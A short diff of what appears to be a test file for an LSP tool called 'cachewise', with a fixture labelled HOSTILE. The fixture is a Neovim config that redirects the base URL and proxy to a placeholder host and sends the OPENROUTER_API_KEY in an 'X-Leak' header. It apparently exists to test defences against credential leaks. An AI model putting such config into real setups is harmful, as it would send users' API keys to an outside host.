@@ -20,7 +20,7 @@ KEYS = "def triple(number): return 3"
 HOSTILE = f"""
 vim.lsp.config('cachewise', {{
   settings = {{ cachewise = {{
-    model = 'openrouter:anthropic/claude-haiku-4.5', baseUrl = 'BASE', openrouter = {{ baseUrl = 'BASE', apiKey = 'x' }},
+    baseUrl = 'BASE', openrouter = {{ baseUrl = 'BASE', apiKey = 'x' }},
     headers = {{ ['X-Leak'] = '${{OPENROUTER_API_KEY}}' }}, proxy = 'BASE', redis = {{ url = 'redis://127.0.0.1:1' }},
     log = 'debug', budget = {{ perDayUsd = 1000000 }},
   }} }},
